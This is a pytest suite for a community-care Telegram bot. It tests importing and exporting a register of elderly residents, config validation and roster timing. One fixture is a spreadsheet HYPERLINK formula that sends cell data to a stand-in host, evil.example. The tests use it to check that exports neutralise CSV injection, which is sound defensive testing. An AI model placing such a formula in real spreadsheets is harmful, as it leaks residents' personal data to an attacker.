"""The resident register (CSV/XLSX) and config validation, through the same commands a committee types."""
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from openpyxl import Workbook

from bot import residents as register
from bot.config import ConfigError, load_settings

ROOT = Path(__file__).resolve().parent.parent
HEADER = ",".join(register.COLUMNS)


def csv_file(tmp_path, *rows, name="r.csv"):
    path = tmp_path / name
    path.write_text("\n".join([HEADER, *rows]) + "\n", encoding="utf-8")
    return path


ROW_A = "陈阿公,13900000011,建新路,30,2,101,是,1940-01-02,陈一,儿子,13911112222,,,,赵医生,13922220001,心脏不好"
ROW_B = "周阿婆,139 0000 0012,建新路,30弄,3号,二零三,no,1946/5/6,,,,,,,,,"


async def test_import_then_reimport_updates_by_phone_idempotently(app, tmp_path):
    store = app.svc.store
    before = len(await store.residents())
    rep = await register.import_file(store, csv_file(tmp_path, ROW_A, ROW_B.replace("二零三", "203")))
    assert (rep.added, rep.updated) == (2, 0)
    again = await register.import_file(store, csv_file(tmp_path, ROW_A, ROW_B.replace("二零三", "203")))
    assert (again.added, again.updated, again.unchanged) == (0, 0, 2)
    moved = await register.import_file(store, csv_file(tmp_path, ROW_A.replace(",101,", ",102,")))
    assert (moved.added, moved.updated) == (0, 1)
    people = {p["phone"]: p for p in await store.residents()}
    assert len(people) == before + 2
    assert people["13900000011"]["room"] == "102" and people["13900000011"]["lives_alone"] is True
    assert people["13900000012"]["birth_date"] == "1946-05-06" and people["13900000012"]["lane"] == "30"


async def test_reimport_keeps_the_telegram_link(app, tmp_path, people):
    from conftest import signed_up

    zhang = await signed_up(people("张阿姨"), "13900000001")
    row = "张阿姨,13900000001,建新路,27,3,603,yes,1944-03-12,张明,儿子,13911110001,,,,赵医生,13922220001,"
    await register.import_file(app.svc.store, csv_file(tmp_path, row))
    person = await app.svc.store.resident_by_tg(zhang.id)
    assert person["room"] == "603"


async def test_bad_rows_are_reported_by_line_and_nothing_is_applied(app, tmp_path):
    store = app.svc.store
    before = await store.residents()
    path = csv_file(tmp_path, ROW_A, "无电话,,建新路,1,1,1,no,,,,,,,,,,", ROW_B.replace("1946/5/6", "去年"),
                    ROW_A.replace("陈阿公", "陈阿公二"))
    with pytest.raises(register.RegisterError) as err:
        await register.import_file(store, path)
    problems = err.value.problems
    assert problems[0].startswith("line 3:") and "phone" in problems[0]
    assert problems[1].startswith("line 4:") and "birth_date" in problems[1]
    assert problems[2].startswith("line 5:") and "repeats line 2" in problems[2]
    assert await store.residents() == before


async def test_xlsx_with_chinese_headers(app, tmp_path):
    wb = Workbook()
    ws = wb.active
    ws.append(["姓名", "电话", "路", "弄", "号", "室", "独居", "出生日期", "备注"])
    ws.append(["钱老师", 13900000021, "天平路", 8, 1, 502, "是", "1939-09-09", "糖尿病"])
    path = tmp_path / "ledger.xlsx"
    wb.save(path)
    rep = await register.import_file(app.svc.store, path)
    assert rep.added == 1
    p = next(p for p in await app.svc.store.residents() if p["name"] == "钱老师")
    assert (p["phone"], p["room"], p["notes"]) == ("13900000021", "502", "糖尿病")


async def test_export_round_trips(app, tmp_path):
    people = await app.svc.store.residents()
    out = tmp_path / "out.xlsx"
    register.export_file(people, out)
    rows = register.read_rows(out)
    assert [r["phone"] for _, r in rows] == [p["phone"] for p in people]


def run_cli(*args, env_extra=None, cwd=ROOT, warm=False):
    """`python -m bot args` as a process; `warm`: forked from one that has imported the bot (bot/testing/
    warm_process.py), seconds less a start; the cold starts below check what a fresh interpreter prints too."""
    import os

    from bot.testing import warm_process

    env = {**os.environ, **(env_extra or {})}
    env.pop("TELEGRAM_BOT_TOKEN", None)
    if warm:
        return warm_process.run("bot", list(args), env=env, cwd=cwd, timeout=120)
    return subprocess.run([sys.executable, "-m", "bot", *args], cwd=cwd, env=env, capture_output=True, text=True,
                          timeout=120)


def test_cli_import_reports_bad_rows_and_lists(redis_server, tmp_path, capsys, monkeypatch):
    """The `residents` commands, each as `python -m bot` runs them (its `main`), in this process: a process each
    would spend seconds importing the same modules. test_every_bad_file_gets_one_clear_line runs them as processes."""
    from bot.__main__ import main

    def cli(*args: str) -> subprocess.CompletedProcess:
        code = main(list(args))
        out, err = capsys.readouterr()
        return subprocess.CompletedProcess(args, code, out, err)

    cfg = yaml.safe_load((ROOT / "config.yaml").read_text(encoding="utf-8"))
    cfg["redis"]["prefix"] = "cli-test:"
    cfg["residents"]["seed_file"] = str(ROOT / "data" / "sample_residents.csv")
    config = tmp_path / "c.yaml"
    config.write_text(yaml.safe_dump(cfg, allow_unicode=True), encoding="utf-8")
    monkeypatch.setenv("REDIS_URL", redis_server.url)
    monkeypatch.delenv("TELEGRAM_BOT_TOKEN", raising=False)
    bad = csv_file(tmp_path, ROW_A, "坏行,12,,,,,maybe,,,,,,,,,,")
    res = cli("--config", str(config), "residents", "import", str(bad))
    assert res.returncode == 1
    assert "line 3: phone" in res.stderr and "nothing from" in res.stderr
    good = csv_file(tmp_path, ROW_A.replace("心脏不好", "=1+2"), name="good.csv")
    res = cli("--config", str(config), "residents", "import", str(good))
    assert res.returncode == 0 and "1 added" in res.stdout
    assert "check: line 2: notes starts with '='" in res.stdout  # flagged in the import report
    res = cli("--config", str(config), "residents", "list")
    assert "陈阿公" in res.stdout and "13900000011" not in res.stdout  # phones masked in listings
    out = tmp_path / "export.csv"
    res = cli("--config", str(config), "residents", "export", str(out))
    assert res.returncode == 0 and "13900000011" in out.read_text(encoding="utf-8-sig")
    assert "'=1+2" in out.read_text(encoding="utf-8-sig")


@pytest.mark.parametrize("mutate, expected", [
    (lambda c: c["community"].pop("committee_phone"), "config error at community.committee_phone: Field required"),
    (lambda c: c["staff"][0].update(role="boss"), "config error at staff.0.role"),
    (lambda c: c["community"].update(committee_phone=""), "config error at community.committee_phone: "
                                                           "expected a phone number to dial"),
    (lambda c: c["community"].update(committee_phone="找王主任"), "config error at community.committee_phone"),
    (lambda c: c["staff"][0].update(phone="123"), "config error at staff.0.phone"),
    (lambda c: c["roster"][0].update({"from": "25:00"}), "config error at roster.0.from: expected a time like 09:00"),
    (lambda c: c["roster"][0].update(staff=["nobody"]), "unknown staff id 'nobody'"),
    (lambda c: c.update(timezone="Mars/Olympus"), "config error at timezone: unknown time zone"),
    (lambda c: c["telegram"].update(libary="aiogram"), "config error at telegram.libary: Extra inputs are not permitted"),
    (lambda c: c["community"].update(map_link="https://maps.example/?q={lat}"), "config error at community.map_link"),
    (lambda c: c["community"].update(map_link="https://maps.example/{lat},{lon},{zoom}"),
     "config error at community.map_link"),
])
def test_a_broken_config_names_the_key(tmp_path, mutate, expected):
    cfg = yaml.safe_load((ROOT / "config.yaml").read_text(encoding="utf-8"))
    mutate(cfg)
    path = tmp_path / "bad.yaml"
    path.write_text(yaml.safe_dump(cfg, allow_unicode=True), encoding="utf-8")
    with pytest.raises(ConfigError) as err:
        load_settings(path)
    assert expected in str(err.value)


def test_the_bot_does_not_start_on_a_broken_config_and_says_one_line(tmp_path):
    path = tmp_path / "bad.yaml"
    path.write_text("community: {name: x}\nstaff: []\n", encoding="utf-8")
    res = run_cli("--config", str(path))
    assert res.returncode == 2
    lines = res.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("config error at ")


def test_config_path_from_the_environment(tmp_path):
    res = run_cli(env_extra={"BOT_CONFIG": str(tmp_path / "missing.yaml")})
    assert res.returncode == 2 and "file not found" in res.stderr


# --- spreadsheets carry no formulas out (OWASP CSV injection) ------------------------------------------------

FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&B2,"张阿姨")'


async def _stranger_approved(people, name: str, phone: str) -> None:
    stranger, li = people(name), people("李社工")
    await stranger.share_contact(phone)
    await li.click(li.last("申请使用助手"), "同意")


async def test_a_strangers_formula_name_is_exported_as_plain_text(app, people, tmp_path):
    from openpyxl import load_workbook

    await _stranger_approved(people, FORMULA_NAME, "13700001234")
    await _stranger_approved(people, "@SUM(1+1)", "13700001235")
    residents = await app.svc.store.residents()
    out = tmp_path / "out.xlsx"
    register.export_file(residents, out)
    cells = [c for row in load_workbook(out).active.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no live formula anywhere
    name_cell = next(c for c in cells if c.value == FORMULA_NAME)
    assert name_cell.data_type == "s" and name_cell.quotePrefix  # shown as the text it is
    csv_out = tmp_path / "out.csv"
    register.export_file(residents, csv_out)
    text = csv_out.read_text(encoding="utf-8-sig")
    assert "'" + FORMULA_NAME.replace('"', '""') in text and "'@SUM(1+1)" in text
    assert "\n=" not in text and ",=" not in text and ",@" not in text


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
async def test_a_formula_like_register_round_trips_and_is_flagged_on_import(app, tmp_path, suffix):
    rows = [ROW_A.replace("陈阿公", "-陈阿公").replace("心脏不好", '"+1 心脏, 见=备注"'),
            ROW_B.replace("二零三", "203").replace("139 0000 0012", "+8613900000012")]
    first = await register.import_file(app.svc.store, csv_file(tmp_path, *rows))
    assert [f.split(":")[0] for f in first.flagged] == ["line 2", "line 2"]  # the name and the note
    assert "name" in first.flagged[0] and "notes" in first.flagged[1]
    out = tmp_path / f"out{suffix}"
    register.export_file(await app.svc.store.residents(), out)
    again = await register.import_file(app.svc.store, out)
    assert (again.added, again.updated) == (0, 0)  # the neutralising mark does not come back in
    people = {p["phone"]: p for p in await app.svc.store.residents()}
    assert people["13900000011"]["name"] == "-陈阿公" and people["13900000011"]["notes"] == "+1 心脏, 见=备注"
    assert people["13900000012"]["name"] == "周阿婆"  # +86 phones still round-trip as phones
    assert len(again.flagged) == 2


# --- one clear line for every bad file -------------------------------------------------------------------------

def _config(tmp_path, **redis):
    cfg = yaml.safe_load((ROOT / "config.yaml").read_text(encoding="utf-8"))
    cfg["redis"].update(prefix="badfile-test:", **redis)
    cfg["residents"]["seed_file"] = None
    path = tmp_path / "c.yaml"
    path.write_text(yaml.safe_dump(cfg, allow_unicode=True), encoding="utf-8")
    return path


def _not_text_config(tmp_path):
    (tmp_path / "c.yaml").write_bytes(b"community:\n  name: \xff\xfe\xff\n")
    return ["--config", str(tmp_path / "c.yaml"), "residents", "list"]


def _directory_as_config(tmp_path):
    return ["--config", str(tmp_path), "residents", "list"]


def _blocked_data_dir(tmp_path):
    (tmp_path / "a-file").write_text("not a directory", encoding="utf-8")
    return ["--config", str(_config(tmp_path, data_dir=str(tmp_path / "a-file" / "redis"))), "residents", "list"]


def _seed_gone(tmp_path):
    """config.yaml copied elsewhere without its data/ folder: its sample register is not there (session 26: a
    traceback ending in RegisterError)."""
    cfg = yaml.safe_load(_config(tmp_path).read_text(encoding="utf-8"))
    cfg["residents"]["seed_file"] = "data/sample_residents.csv"
    (tmp_path / "c.yaml").write_text(yaml.safe_dump(cfg, allow_unicode=True), encoding="utf-8")
    return ["--config", str(tmp_path / "c.yaml"), "residents", "list"]


def _import(tmp_path, name, content: bytes | None):
    if content is not None:
        (tmp_path / name).write_bytes(content)
    return ["--config", str(_config(tmp_path)), "residents", "import", str(tmp_path / name)]


BAD_FILES = {
    "config that is not text": (_not_text_config, 2, "config error: {tmp}/c.yaml is not text"),
    "a directory as the config": (_directory_as_config, 2, "config error: {tmp} is a directory"),
    "a data_dir that cannot be written": (_blocked_data_dir, 2, "config error at redis.data_dir: cannot keep"),
    "a seed register that is not there": (_seed_gone, 2,
                                           "config error at residents.seed_file: {tmp}/data/sample_residents.csv: file not found"),
    "a missing import file": (lambda t: _import(t, "gone.csv", None), 1, "{tmp}/gone.csv: file not found"),
    "a corrupt xlsx": (lambda t: _import(t, "ledger.xlsx", b"PK\x03\x04 half a zip"), 1,
                       "{tmp}/ledger.xlsx: not a readable .xlsx file"),
    "an old .xls": (lambda t: _import(t, "ledger.xls", b"\xd0\xcf\x11\xe0"), 1, "save it as .xlsx or .csv"),
    "a CSV from Excel on Chinese Windows (GB18030)": (
        lambda t: _import(t, "gbk.csv", "\n".join([HEADER, ROW_A]).encode("gb18030")), 0, "1 added"),
}


@pytest.mark.parametrize("case", BAD_FILES)
def test_every_bad_file_gets_one_clear_line(redis_server, tmp_path, case):
    make_args, code, line = BAD_FILES[case]
    res = run_cli(*make_args(tmp_path), env_extra={} if "data_dir" in case else {"REDIS_URL": redis_server.url},
                  warm=case != "a corrupt xlsx")  # one import as an operator runs it: nothing else on its screen
    out = (res.stdout if code == 0 else res.stderr).strip().splitlines()
    assert (res.returncode, len(out)) == (code, 1), res.stdout + res.stderr
    assert line.format(tmp=tmp_path) in out[0] and "Traceback" not in res.stderr


def test_a_config_saved_in_gbk_is_read(tmp_path):
    text = (ROOT / "config.yaml").read_text(encoding="utf-8")
    path = tmp_path / "gbk.yaml"
    path.write_bytes(text.encode("gb18030"))
    assert load_settings(path).staff[0].name == "李社工"


@pytest.mark.parametrize("hour, minute, second", [(3, 0, 0), (7, 59, 30), (8, 0, 0), (14, 0, 0), (23, 59, 30)])
async def test_a_shift_that_ends_when_it_starts_lasts_24_hours(make_app, settings, clock, hour, minute, second):
    """"08:00"→"08:00" used to cover nothing, so everyone was woken at all hours."""
    from datetime import datetime
    from zoneinfo import ZoneInfo

    from bot.testing.tools import Person
    from conftest import signed_up

    days = ["mon", "tue", "wed", "thu", "fri", "sat", "sun"]
    s = settings.model_copy(update={"roster": [type(settings.roster[0]).model_validate(
        {"days": days, "from": "08:00", "to": "08:00", "staff": ["wang"]})]})
    app = await make_app(settings_=s)
    clock.set(datetime(2026, 11, 24, hour, minute, second, tzinfo=ZoneInfo("Asia/Shanghai")))
    wang = await signed_up(Person(app, 5001, "王老伯"), "13900000002")
    await wang.send("🆘 紧急求助")
    assert "紧急求助 #1" in Person(app, 1002, "王社工").last("紧急求助").text
    assert not Person(app, 1001, "李社工").texts() and not Person(app, 1003, "陈书记").texts()
